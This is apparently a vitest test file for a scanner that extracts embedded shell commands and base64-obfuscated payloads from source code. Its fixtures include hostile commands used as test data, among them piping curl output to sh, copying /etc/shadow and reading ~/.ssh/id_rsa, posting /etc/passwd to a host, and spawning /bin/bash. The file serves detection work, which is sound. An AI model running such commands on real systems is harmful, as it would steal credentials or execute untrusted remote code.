import { describe, expect, it } from 'vitest';
import { embeddedBase64, embeddedShellCommands } from './code-payloads.ts';

describe('embeddedShellCommands', () => {
  it.each([
    ["import os; os.system('curl -s x | sh')", ['curl -s x | sh']],
    ['os.popen("id").read()', ['id']],
    ["subprocess.run(['scp', '/etc/shadow', 'h:/x'], check=True)", ['scp /etc/shadow h:/x']],
    ['subprocess.check_output("cat ~/.ssh/id_rsa", shell=True)', ['cat ~/.ssh/id_rsa']],
    ["subprocess.Popen(['sh', '-c', 'a b'])", ["sh -c 'a b'"]],
    ["pty.spawn('/bin/bash')", ['/bin/bash']],
    ["require('child_process').execSync('whoami')", ['whoami']],
    ['const { execSync } = require(\'child_process\'); execSync("ls -la")', ['ls -la']],
    ["child_process.spawn('curl', ['-d', '@/etc/passwd', 'http://x'])", ['curl -d @/etc/passwd http://x']],
    ['system("rm -rf /tmp/x");', ['rm -rf /tmp/x']],
    ['system "id"', ['id']],
    ["shell_exec('uname -a');", ['uname -a']],
    ['os.system(f"echo {x}")', ['echo {x}']],
    ["os.system('echo \\'quoted\\'')", ["echo 'quoted'"]],
    ['exec("print(1)")', []],
    ['os.system(cmd)', []],
  ])('%s', (code, expected) => {
    expect(embeddedShellCommands(code, false)).toEqual(expected);
  });

  it('reads backticks and qx only when asked (Perl, Ruby)', () => {
    expect(embeddedShellCommands('puts `id`; x = %x(uname -a); y = qx{whoami}', true)).toEqual([
      'id',
      'uname -a',
      'whoami',
    ]);
    expect(embeddedShellCommands('const s = `template ${x}`', false)).toEqual([]);
  });
});

describe('embeddedBase64', () => {
  const b64 = (text: string) => Buffer.from(text).toString('base64');
  it.each([
    [`exec(base64.b64decode('${b64('import os')}'))`, ['import os']],
    [`exec(__import__('base64').b64decode(b"${b64('print(1)')}"))`, ['print(1)']],
    [`eval(atob("${b64('alert(1)')}"))`, ['alert(1)']],
    [`eval(Buffer.from('${b64('process.exit()')}', 'base64').toString())`, ['process.exit()']],
    [`[System.Convert]::FromBase64String('${b64('Get-Process')}')`, ['Get-Process']],
    [`eval(decode_base64("${b64('system "id"')}"))`, ['system "id"']],
    ["b64decode('!!!!notbase64')", []],
  ])('%s', (code, expected) => {
    expect(embeddedBase64(code)).toEqual(expected);
  });
});
